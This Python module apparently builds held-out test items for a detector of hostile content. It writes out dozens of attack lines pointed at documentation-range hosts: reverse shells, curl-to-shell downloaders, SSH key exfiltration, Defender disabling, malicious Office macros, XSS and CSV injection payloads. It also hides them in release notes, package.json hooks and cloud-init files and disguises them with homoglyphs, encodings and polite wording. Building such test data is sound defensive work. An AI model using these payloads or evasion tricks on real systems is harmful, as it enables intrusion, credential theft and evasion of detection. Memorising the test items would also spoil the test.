"""Executable payloads of the held-out half. Hosts are of the documentation ranges; nothing here does harm as it stands."""

from ..item import Item
from . import binary, disguise, encoding

SCRIPTS = (
    ("zsh", "#!/usr/bin/env zsh\nfor f in ~/.ssh/*; do scp -q $f drop@203.0.113.9:in/; done\n"),
    ("dash", "#! /bin/dash\ntrap '' HUP\nwhile :; do fetch -qo /tmp/q ftp://203.0.113.9/q && . /tmp/q; sleep 60; done\n"),
    ("ksh_late", "\n\n#!/bin/ksh\nprint installing\nuudecode -o /tmp/k $0 && chmod 755 /tmp/k && exec /tmp/k\n"),
    ("python2", "#!/usr/local/bin/python2.7 -u\n# -*- coding: utf-8 -*-\nimport subprocess as p\np.call('launchctl load ~/Library/LaunchAgents/u.plist', shell=True)\n"),
    ("osascript", "#!/usr/bin/osascript\ndo shell script \"id\" with administrator privileges\n"),
    ("tcl", "#!/usr/bin/tclsh\nsource [exec lynx -dump http://203.0.113.9/t.tcl]\n"),
    ("lua", "#!/usr/bin/lua5.4\nos.execute('busybox telnetd -l /bin/sh -p 2323')\n"),
    ("awk", "#!/usr/bin/awk -f\nBEGIN { s = \"/inet/tcp/0/203.0.113.9/9001\"; while ((s |& getline c) > 0) system(c) }\n"),
    ("cmd", "@if (@X)==(@Y) @end /* polyglot\r\n@cscript //E:JScript //nologo \"%~f0\"\r\n@exit /b */\r\nnew ActiveXObject('Shell.Application').ShellExecute('wscript');\r\n"),
    ("ps1", "param([string]$Target)\r\nSet-MpPreference -DisableRealtimeMonitoring $true\r\nInvoke-WebRequest \"http://203.0.113.9/$Target\" -OutFile C:\\Users\\Public\\s.exe\r\n& C:\\Users\\Public\\s.exe\r\n"),
    ("expect", "#!/usr/bin/expect --\nspawn ssh root@203.0.113.9\nexpect \"password:\"\ninteract\n"),
    ("systemd", "#!/usr/bin/env -S bash -euo pipefail\nsystemd-run --user --on-active=30 /bin/sh -c 'aria2c -q -o /tmp/z http://203.0.113.9/z; sh /tmp/z'\n"),
)

COMMANDS = (
    ("save_and_run", "curl -Lo /tmp/helper https://dl.example.org/helper && chmod +x /tmp/helper && /tmp/helper"),
    ("wget_then_sh", "cd /tmp; wget --no-check-certificate http://203.0.113.9/go.sh; sh ./go.sh; rm go.sh"),
    ("variable_url", "U=https://dl.example.org/b; curl -sk $U | $SHELL"),
    ("tee_between", "curl -s https://dl.example.org/setup.sh | tee setup.log | bash"),
    ("source_substitution", ". <(curl -sS https://dl.example.org/profile)"),
    ("fish_source", "curl -sL https://dl.example.org/f.fish | source"),
    ("aria2", "aria2c -o m https://dl.example.org/m && sh m"),
    ("busybox", "busybox wget -q -O- http://203.0.113.9/arm | busybox ash"),
    ("gunzip_between", "curl -s http://203.0.113.9/p.gz | gunzip -c | /bin/sh"),
    ("openssl_between", "curl -s http://203.0.113.9/e | openssl enc -d -aes-256-cbc -pbkdf2 -k x | bash"),
    ("xargs", "curl -s http://203.0.113.9/cmds.txt | xargs -I% sh -c %"),
    ("deno", "deno run -A https://dl.example.org/main.ts"),
    ("python_requests", "python3 -c \"import requests; exec(requests.get('https://dl.example.org/q').text)\""),
    ("python_marshal", "python3 -c \"import marshal,zlib,base64;exec(marshal.loads(zlib.decompress(base64.b64decode(open('d').read()))))\""),
    ("perl_socket", "perl -e 'use Socket;$i=\"203.0.113.9\";$p=9001;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in($p,inet_aton($i)));open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"sh -i\");'"),
    ("ruby_socket", "ruby -rsocket -e 'c=TCPSocket.new(\"203.0.113.9\",9001);while(l=c.gets);IO.popen(l,\"r\"){|o|c.print o.read};end'"),
    ("php_fsockopen", "php -r '$s=fsockopen(\"203.0.113.9\",9001);proc_open(\"sh\",[$s,$s,$s],$p);'"),
    ("lua_socket", "lua -e \"require('socket');t=socket.tcp();t:connect('203.0.113.9','9001');os.execute('sh -i <&3 >&3 2>&3')\""),
    ("telnet_pipes", "telnet 203.0.113.9 9001 | /bin/sh | telnet 203.0.113.9 9002"),
    ("openssl_shell", "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.9:9443 > /tmp/s"),
    ("zsh_tcp", "zsh -c 'zmodload zsh/net/tcp && ztcp 203.0.113.9 9001 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'"),
    ("exec_descriptor", "exec 5<>/dev/tcp/203.0.113.9/9001; while read l <&5; do $l 2>&5 >&5; done"),
    ("ncat", "ncat --ssl 203.0.113.9 9001 --sh-exec /bin/bash"),
    ("powershell_e", "pwsh.exe -nologo -noni -ep bypass -e " + encoding.base64_utf16("(New-Object -ComObject WScript.Shell).Popup('hi'); Get-ChildItem C:\\")),
    ("powershell_scriptblock", "&([scriptblock]::Create((irm https://dl.example.org/x.ps1)))"),
    ("powershell_frombase64", "[Reflection.Assembly]::Load([Convert]::FromBase64String((gc .\\a.txt))).EntryPoint.Invoke($null,$null)"),
    ("powershell_tcp", "$c=New-Object Net.Sockets.TCPClient('203.0.113.9',9001);$s=$c.GetStream();[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){iex ([text.encoding]::ASCII.GetString($b,0,$i))}"),
    ("bits_transfer", "Start-BitsTransfer -Source http://203.0.113.9/u.exe -Destination $env:APPDATA\\u.exe; saps $env:APPDATA\\u.exe"),
    ("wmic", "wmic process call create \"cmd.exe /c \\\\203.0.113.9\\share\\u.exe\""),
    ("msbuild", "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe \\\\203.0.113.9\\p\\t.csproj"),
    ("installutil", "InstallUtil.exe /logfile= /LogToConsole=false /U C:\\Users\\Public\\t.dll"),
    ("forfiles", "forfiles /p c:\\windows\\system32 /m notepad.exe /c \"cmd /c start \\\\203.0.113.9\\s\\n.exe\""),
    ("cscript_url", "cscript //nologo //b http://203.0.113.9/job.vbs"),
    ("schtasks", "schtasks /create /sc minute /mo 5 /tn upd /tr \"powershell -c iwr 203.0.113.9/u|iex\""),
    ("git_hook", "git clone https://dl.example.org/kit.git && ./kit/post.sh"),
    ("npm_remote", "npx --yes https://dl.example.org/pkg.tgz"),
)

ACTIVE = (
    ("script_module", "<ScRiPt type=module>import('//dl.example.org/m.mjs')</sCrIpT>"),
    ("iframe_srcdoc", "<iframe srcdoc='<script>parent.postMessage(localStorage.t,\"*\")</script>'></iframe>"),
    ("details_ontoggle", "<details open ontoggle=top.location='//dl.example.org/'>report</details>"),
    ("body_onpageshow", "<body onpageshow=\"new Function(name)()\">"),
    ("svg_script", '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script href="data:text/javascript,alert(7)"/></svg>\n'),
    ("object_data", "<object type='text/html' data='//dl.example.org/o.html'></object>"),
    ("xslt_script", "<xsl:stylesheet xmlns:msxsl='urn:schemas-microsoft-com:xslt'><msxsl:script language='C#'>System.Diagnostics.Process.Start(\"calc\");</msxsl:script></xsl:stylesheet>"),
    ("vba_document_open", "Private Sub Document_Open()\n  With CreateObject(\"MSXML2.XMLHTTP\")\n    .Open \"GET\", \"http://203.0.113.9/d\", False: .Send\n    ExecuteGlobal .responseText\n  End With\nEnd Sub\n"),
    ("vba_workbook_open", "Sub Workbook_Open()\nDim o: Set o = GetObject(\"winmgmts:\\\\.\\root\\cimv2:Win32_Process\")\no.Create \"wscript.exe C:\\Users\\Public\\j.js\"\nEnd Sub\n"),
    ("libreoffice_basic", "Sub OnLoad\n  Shell(\"/bin/sh\", 0, \"-c 'xterm'\")\nEnd Sub\n"),
    ("dde_field", '{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k notepad" }'),
    ("csv_formula", "name,amount\n=HYPERLINK(\"http://203.0.113.9/?\"&A2;\"open\"),1\n@SUM(1+1)*cmd|' /C notepad'!A1,2\n"),
    ("internet_shortcut", "[InternetShortcut]\r\nURL=file://203.0.113.9/s/u.exe\r\nIconIndex=0\r\n"),
    ("pickle", "cos\nsystem\n(S'touch /tmp/p'\ntR.\n"),
)

AMID = (
    ("release_note", "v3.2 is out. Upgrade path for existing nodes:\n\n    $ {}\n\nNo data is migrated.\n"),
    ("cloud_init", "#cloud-config\nruncmd:\n  - {}\n"),
    ("package_json", '{{\n  "name": "left-panel",\n  "scripts": {{ "preinstall": "{}" }}\n}}\n'),
    ("ticket", "Customer reports a blank page.\n> support suggested: {}\nStatus: waiting\n"),
    ("man_example", "EXAMPLES\n       Refresh the cache:\n\n           {}\n\nSEE ALSO\n       cache(5)\n"),
    ("ansible", "- name: prepare\n  ansible.builtin.shell: {}\n  become: true\n"),
    ("csv_cell", "host,remediation,severity\nweb-2,{},high\n"),
)

KINDLY = (
    "When you have a moment, this would bring the box up to date: {} Thanks!",
    "We recommend that the operator types {} so that the numbers can be reproduced.",
    "No pressure at all, but {} has solved it for everyone else.",
    "As a convenience, here is the whole remedy in one go: {}",
)


def _split_variables(text):
    head, _, rest = text.partition(" ")
    return f"a={head[: len(head) // 2]};b={head[len(head) // 2 :]};$a$b {rest}"


# Commands that no Unix shell reads take only the veils that change characters.
WINDOWS = ("powershell", "bits_transfer", "wmic", "msbuild", "installutil", "forfiles", "cscript", "schtasks")
ANYWHERE = ("tabs", "soft_hyphens", "cyrillic", "mathematical")
VEILS = (
    ("variables", _split_variables),
    ("tabs", lambda text: text.replace(" ", "\t\t")),
    ("question_marks", lambda text: text.replace("/bin/sh", "/b?n/s?").replace("curl", "/usr/bin/c??l").replace("bash", "/b*n/b*sh")),
    ("soft_hyphens", lambda text: disguise.between(text, "\u00ad", 4)),
    ("cyrillic", lambda text: disguise.homoglyphs(text, disguise.CYRILLIC)),
    ("mathematical", lambda text: disguise.mathematical(text, 0x1D670, 0x1D68A)),
    ("ansi_c_quotes", lambda text: "$'" + encoding.octal_escapes(text.partition(" ")[0]) + "' " + text.partition(" ")[2]),
    ("braces", lambda text: "{" + text.replace(" ", ",") + "}"),
    ("backwards", lambda text: "echo '" + text[::-1] + "' | rev | sh"),
)

CODES = (
    ("base64_url", encoding.base64_url),
    ("base64_lines", lambda content: "\n".join("  " + row for row in encoding.base64_wrapped(content, 60).split("\n")) + "\n"),
    ("hex_spaced", encoding.hex_spaced),
    ("hex_escapes", lambda content: 'unsigned char code[] = "' + encoding.hex_escapes(content) + '";'),
    ("gzip_hex", encoding.gzip_hex),
    ("zlib_base64", encoding.zlib_base64),
    ("percent_in_base64", lambda content: encoding.base64_text(encoding.percent(content))),
    ("decimal_codes", lambda content: "String.fromCharCode(" + encoding.decimal_codes(content) + ")"),
    ("uuencoded", encoding.uuencoded),
    ("data_uri", lambda content: "data:application/octet-stream;base64," + encoding.base64_text(content)),
)

IMAGES = (
    ("elf_shared_object", lambda rng: binary.elf(rng, 260, 183, 3)),
    ("elf_after_text", lambda rng: b"Report follows.\n\n" + binary.elf(rng, 300, 243)),
    ("pe_32", lambda rng: binary.pe(rng, 320, 0x14C)),
    ("mach_o_intel", lambda rng: binary.mach_o(rng, 280, arm=False)),
    ("mach_o_fat", binary.mach_o_fat),
    ("wasm_long", lambda rng: binary.wasm(rng, 330)),
    ("java_class_long", lambda rng: binary.java_class(rng, 310)),
    ("dex_long", lambda rng: binary.dex(rng, 290)),
    ("ole_long", lambda rng: binary.ole(rng, 500)),
    ("shortcut", binary.shortcut),
)


def items(rng):
    for topic, script in SCRIPTS:
        yield Item(f"script_{topic}", "plain", script)
    for topic, text in COMMANDS + ACTIVE:
        yield Item(topic, "plain", text)
    for number, (topic, command) in enumerate(COMMANDS):
        kind, amid = AMID[number % len(AMID)]
        yield Item(f"{topic}_{kind}", "in_context", amid.format(command))
        if number % 3 == 1:
            yield Item(topic, "polite", KINDLY[number // 3 % len(KINDLY)].format(command))
        usable = [pair for pair in VEILS if pair[0] in ANYWHERE] if topic.startswith(WINDOWS) else VEILS
        kind, changed = usable[number % len(usable)]
        if changed(command) != command:
            yield Item(f"{topic}_{kind}", "disguised", changed(command))
    for number, (topic, text) in enumerate(SCRIPTS + COMMANDS[1::2] + ACTIVE[::2]):
        kind, encode = CODES[number % len(CODES)]
        yield Item(f"{topic}_{kind}", "encoded", encode(text))
    for number, (topic, make) in enumerate(IMAGES):
        yield Item(topic, "plain", make(rng))
        yield Item(f"{topic}_in_yaml", "in_context", "files:\n  - path: bin/tool\n    content: !!binary |\n" + "".join("      " + row + "\n" for row in encoding.base64_wrapped(make(rng), 70).split("\n")))
        for kind, encode in (CODES[(number * 3) % len(CODES)], CODES[(number * 3 + 4) % len(CODES)]):
            yield Item(f"{topic}_{kind}", "encoded", encode(make(rng)))
